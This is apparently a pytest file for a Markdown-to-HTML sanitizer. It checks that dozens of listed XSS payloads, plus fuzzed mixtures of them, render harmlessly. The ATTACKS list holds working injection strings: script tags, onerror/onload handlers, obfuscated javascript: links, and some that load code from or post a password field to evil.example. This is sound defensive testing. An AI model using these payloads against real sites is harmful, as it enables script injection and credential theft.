"""What people write: Markdown in, safe HTML out."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from iag_portal.text import SCHEMES, TAGS, render

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<style>body{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<a href='javascript:alert(1)'>press</a>",
    "<p style='position:fixed'>over all</p>",
    "<details open ontoggle=alert(1)>",
    "<!--<img src=--><img src=x onerror=alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a id=csrfmiddlewaretoken name=body>clobber</a>",
    "[press](javascript:alert(1))",
    "[press](JaVaScRiPt:alert(1))",
    "[press](java&#115;cript:alert(1))",
    "[press](javascript&colon;alert(1))",
    "[press](\x01javascript:alert(1))",
    "[press](<java\nscript:alert(1)>)",
    "[press](vbscript:msgbox(1))",
    "[press](data:text/html;base64,PHNjcmlwdD4=)",
    "[press](//evil.example/)",
    "[press](\\\\evil.example)",
    "[press](/accounts/logout/)",
    "[press](?reply=1)",
    "[press](#write)",
    "[press](file:///etc/passwd)",
    "[press](https://ok.example 'onmouseover=alert(1)')",
    '[press](https://ok.example "&quot; onmouseover=alert(1)")',
    "<javascript:alert(1)>",
    "<https://ok.example/?a=<script>>",
    "![picture](https://evil.example/pixel.gif)",
    "![picture](data:image/svg+xml,<svg onload=alert(1)>)",
    "[![picture](https://evil.example/pixel.gif)](https://ok.example)",
    "[press]: javascript:alert(1)\n\n[press]",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```<img/src=x/onerror=alert(1)>\nwords\n```",
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "- <a href=javascript:alert(1)>press</a>",
    "**<b onmouseover=alert(1)>bold</b>**",
    "<div data-region='posts' id='region-posts' hx-get='//evil.example' hx-trigger='load'>",
    "<div data-stream='topic.1.members' data-seq='0'>",
    "\x00<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]


class Page(HTMLParser):
    """Every tag and attribute that a browser would see."""

    def __init__(self, html):
        super().__init__()
        self.tags = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def harmless(html):
    for tag, attributes in Page(html).tags:
        assert tag in TAGS, tag
        assert set(attributes) <= ({"href", "rel"} if tag == "a" else set()), attributes
        if "href" in attributes:
            scheme = re.match(r"([a-z]+):", attributes["href"])
            assert scheme, attributes
            assert scheme[1] in SCHEMES, attributes
            assert attributes["rel"] == "noopener noreferrer nofollow"
    return True


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_shown_as_text_or_not_at_all(attack):
    assert harmless(render(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_the_midst_of_words_leaves_the_words(attack):
    html = render(f"Before\n\n{attack}\n\nAfter")

    assert harmless(html)
    assert "Before" in html


@given(st.text())
def test_whatever_is_typed_is_harmless(typed):
    assert harmless(render(typed))


@given(st.lists(st.sampled_from([*ATTACKS, "](", "<", ">", "\n", "`", "*", "&", '"', "'"])))
def test_no_mixture_of_attacks_gets_through(pieces):
    assert harmless(render("".join(pieces)))


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("One\nTwo", "<p>One<br>\nTwo</p>\n"),
        ("**Two** buses", "<p><strong>Two</strong> buses</p>\n"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"),
        ("# Heading", "<h3>Heading</h3>\n"),
        ("## Lower", "<h4>Lower</h4>\n"),
        ("###### Lowest", "<h4>Lowest</h4>\n"),
        ("5 < 7 & 7 > 5", "<p>5 &lt; 7 &amp; 7 &gt; 5</p>\n"),
        (
            "[the plan](https://ok.example/plan)",
            '<p><a href="https://ok.example/plan" rel="noopener noreferrer nofollow">the plan</a></p>\n',
        ),
        (
            "[write](mailto:sally@example.org)",
            '<p><a href="mailto:sally@example.org" rel="noopener noreferrer nofollow">write</a></p>\n',
        ),
    ],
)
def test_what_people_mean_comes_out(source, html):
    assert render(source) == html
